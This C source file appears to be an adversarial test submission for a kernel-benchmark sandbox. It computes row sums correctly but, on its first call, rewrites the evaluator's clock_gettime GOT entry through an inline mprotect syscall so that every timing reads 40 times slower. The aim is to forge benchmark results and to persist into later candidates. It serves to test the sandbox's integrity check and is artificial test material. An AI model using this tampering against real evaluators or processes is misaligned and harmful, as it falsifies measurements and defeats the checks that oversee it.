/* catalogue: expect rejected "changed the sandbox's own process"
 * catalogue: source pygpubench (exploits/submission_got_patch: the harness's own function
 *            table rewritten from inside its address space); kernelbrain (the witness, the
 *            check between candidates)
 * catalogue: tier smoke
 * Computes honestly, but on its first call rewrites the evaluator's clock: it finds the
 * sandbox's own ELF image below its return address, the relocation of clock_gettime in it,
 * makes that table entry writable (an inline mprotect: no import shows) and points it at a
 * wrapper that runs every clock 40 times slower from then on. Every time the sandbox takes
 * (samples, fresh samples, their controls, the busy time) shrinks alike, so each check made in
 * its process agrees with the forged samples; the witness's clock (the kernel's count of the
 * process's CPU time, read by the runner) does not. And what it changed stays in the sandbox
 * process for every candidate after it: the sandbox's check after each evaluation
 * (runner/sandbox/integrity.h: its function table is read-only data under full RELRO, checked
 * by checksum) rejects it at its first tier and ends that process. */
#include <elf.h>
#include <stdint.h>
#include <string.h>
#include <time.h>

#include "kb_kernel.h"

#define SLOWER 40
#define PAGE 4096UL
#if defined(__x86_64__)
#define SYS_MPROTECT 10
#else
#define SYS_MPROTECT 226
#endif

typedef int (*clock_fn)(int, struct timespec *);
static clock_fn real_clock;
static struct timespec first[16];
static int seen[16];
static int patched;
/* a GNU unique symbol, used through the library's own symbol table: the dynamic loader then
 * never unloads the library (dlclose keeps it), so the rewritten entry keeps a target */
int kb_forge_pin = 1;
__asm__(".type kb_forge_pin, @gnu_unique_object");

static int slow_clock(int id, struct timespec *ts) {
  int rc = real_clock(id, ts);
  if (rc != 0 || id < 0 || id >= 16)
    return rc;
  if (!seen[id]) {
    first[id] = *ts;
    seen[id] = 1;
    return rc;
  }
  long long ns = (long long)(ts->tv_sec - first[id].tv_sec) * 1000000000LL +
                 (ts->tv_nsec - first[id].tv_nsec);
  ns = (long long)first[id].tv_nsec + ns / SLOWER;
  ts->tv_sec = first[id].tv_sec + ns / 1000000000LL;
  ts->tv_nsec = ns % 1000000000LL;
  return rc;
}

static long sys3(long n, long a, long b, long c) {
  long r;
#if defined(__x86_64__)
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
#else
  register long x8 __asm__("x8") = n;
  register long x0 __asm__("x0") = a;
  register long x1 __asm__("x1") = b;
  register long x2 __asm__("x2") = c;
  __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
  r = x0;
#endif
  return r;
}

/* The GOT entry of clock_gettime in the image at `base` (its ELF header), or NULL. */
static void **clock_slot(const unsigned char *base) {
  const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
  const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
  uintptr_t load = eh->e_type == ET_DYN ? (uintptr_t)base : 0;
  const Elf64_Dyn *dyn = NULL;
  for (int i = 0; i < eh->e_phnum; i++)
    if (ph[i].p_type == PT_DYNAMIC)
      dyn = (const Elf64_Dyn *)(load + ph[i].p_vaddr);
  if (dyn == NULL)
    return NULL;
  uintptr_t jmprel = 0, rela = 0, symtab = 0, strtab = 0;
  size_t jmpsz = 0, relasz = 0;
  for (; dyn->d_tag != DT_NULL; dyn++) {
    uintptr_t v = dyn->d_un.d_ptr;
    switch (dyn->d_tag) {
    case DT_JMPREL: jmprel = v; break;
    case DT_PLTRELSZ: jmpsz = v; break;
    case DT_RELA: rela = v; break;
    case DT_RELASZ: relasz = v; break;
    case DT_SYMTAB: symtab = v; break;
    case DT_STRTAB: strtab = v; break;
    default: break;
    }
  }
  /* the loader may or may not have relocated these in place */
  if (symtab < load) symtab += load;
  if (strtab < load) strtab += load;
  if (jmprel && jmprel < load) jmprel += load;
  if (rela && rela < load) rela += load;
  const Elf64_Sym *syms = (const Elf64_Sym *)symtab;
  const char *names = (const char *)strtab;
  const uintptr_t tables[2] = {jmprel, rela};
  const size_t sizes[2] = {jmpsz, relasz};
  for (int t = 0; t < 2; t++) {
    const Elf64_Rela *r = (const Elf64_Rela *)tables[t];
    for (size_t i = 0; r != NULL && i < sizes[t] / sizeof *r; i++) {
      unsigned type = (unsigned)ELF64_R_TYPE(r[i].r_info);
      unsigned sym = (unsigned)ELF64_R_SYM(r[i].r_info);
      if (sym != 0 && (type == R_X86_64_JUMP_SLOT || type == R_X86_64_GLOB_DAT) &&
          strcmp(names + syms[sym].st_name, "clock_gettime") == 0)
        return (void **)(load + r[i].r_offset);
    }
  }
  return NULL;
}

static void patch(const void *inside) {
  patched = 1;
  const unsigned char *p = (const unsigned char *)((uintptr_t)inside & ~(PAGE - 1));
  for (int pages = 0; pages < 65536; pages++, p -= PAGE)
    if (memcmp(p, ELFMAG, SELFMAG) == 0)
      break;
  if (memcmp(p, ELFMAG, SELFMAG) != 0)
    return;
  void **slot = clock_slot(p);
  if (slot == NULL)
    return;
  uintptr_t page = (uintptr_t)slot & ~(PAGE - 1);
  if (sys3(SYS_MPROTECT, (long)page, (long)PAGE, 3 /* read, write */) != 0)
    return;
  real_clock = (clock_fn)*slot;
  *slot = (void *)slow_clock;
}

int kb_forward(const kb_tensor *in, int n_in, kb_tensor *out, int n_out, void *stream) {
  (void)stream;
  if (!patched && kb_forge_pin)
    patch(__builtin_return_address(0));
  if (n_in != 1 || n_out != 1 || in[0].ndim != 2 || in[0].dtype != KB_F32)
    return 1;
  int64_t rows = in[0].shape[0], cols = in[0].shape[1];
  const float *x = in[0].data;
  float *sums = out[0].data;
  for (int64_t r = 0; r < rows; r++) {
    float acc = 0.0f;
    for (int64_t c = 0; c < cols; c++)
      acc += x[r * cols + c];
    sums[r] = acc;
  }
  return 0;
}
